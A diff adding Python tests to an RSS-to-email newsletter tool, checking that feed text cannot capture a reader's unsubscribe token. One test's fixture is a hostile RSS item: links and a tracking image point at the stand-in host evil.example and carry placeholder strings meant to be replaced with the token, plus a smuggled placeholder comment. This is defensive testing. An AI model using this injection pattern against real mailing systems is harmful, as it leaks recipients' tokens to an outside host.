@@ -136,3 +136,58 @@ def test_golden_sample_issue(tmp_path: Path) -> None:
     msg = _parse(data)
     assert msg["Subject"].startswith("Supporting Youth in Residential Care")
     assert len(msg.get_body(("html",)).get_content().encode()) < 100_000  # Gmail clips at ~102 KB
+
+
+# -- feed text cannot steal a reader's unsubscribe token (issue 11.3) ----------------
+
+_PLAUSIBLE = (
+    "%%UNSUBSCRIBE_URL%%",
+    "%%UNSUBSCRIBE_URL_" + "0" * 32 + "%%",
+    "{{ unsubscribe_url }}",
+)
+_HOSTILE_FEED = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>
+<title>AASR</title><link>https://endseclusion.org/</link>
+<item><title>Win {p0} {p1} {p2}</title><link>https://endseclusion.org/win/</link><guid>w1</guid>
+<description><![CDATA[<!--newsletter-placeholder:{key}-->
+<p>Read <a href="https://evil.example/a?t={p0}">this</a> {p1}
+<img src="https://evil.example/i.png?t={p0}&amp;u={p1}" alt="x"></p>]]></description>
+</item></channel></rss>"""
+
+
+def test_feed_text_holding_placeholders_never_gets_a_readers_link(tmp_path: Path) -> None:
+    settings = _settings(tmp_path)
+    xml = _HOSTILE_FEED.format(p0=_PLAUSIBLE[0], p1=_PLAUSIBLE[1], p2=_PLAUSIBLE[2], key="0" * 32)
+    feed = parse_feed(xml.encode(), base_url="https://endseclusion.org/feed/")
+    rendered = render_issue(
+        feed.stories, settings, issue_id=1, feed_title=feed.title, feed_link=feed.link
+    )
+    template = MessageTemplate(
+        settings, subject=rendered.subject, html=rendered.html, text=rendered.text, issue_id=1
+    )
+    token = "ReaderA-token-0123456789abcdef"
+    msg = _parse(_fill(template, to="a@example.org", token=token))
+    link = unsubscribe_url(settings, token)
+    assert msg["List-Unsubscribe"] == f"<{link}>"
+    assert token not in msg["Subject"]
+    html = msg.get_body(("html",)).get_content()
+    text = msg.get_body(("plain",)).get_content()
+    for body in (html, text):
+        assert token in body  # the footer's visible link
+        story_end = body.rindex("Win")
+        if "evil.example" in body:
+            story_end = max(story_end, body.rindex("evil.example"))
+        assert body.index(token) > story_end  # only after the story: the footer
+        assert body.count(link) == body.count(token)  # never inside another URL
+    assert "%%UNSUBSCRIBE_URL%%" in html and "%%UNSUBSCRIBE_URL%%" in text  # left as written
+    assert "newsletter-placeholder" not in html
+
+
+def test_an_issue_frozen_with_the_old_fixed_placeholder_still_sends(tmp_path: Path) -> None:
+    """Issues stored before per-issue placeholders: the fixed one is filled as before."""
+    html = f'<html><body><p>Hi</p><a href="{UNSUBSCRIBE_URL}">Unsubscribe</a></body></html>'
+    template = _template(_settings(tmp_path), html, f"Hi\nUnsubscribe: {UNSUBSCRIBE_URL}\n")
+    msg = _parse(_fill(template, token="OldIssueToken0123456789"))
+    link = unsubscribe_url(_settings(tmp_path), "OldIssueToken0123456789")
+    assert f'href="{link}"' in msg.get_body(("html",)).get_content()
+    assert f"Unsubscribe: {link}" in msg.get_body(("plain",)).get_content()
+    assert b"%%" not in _fill(template)
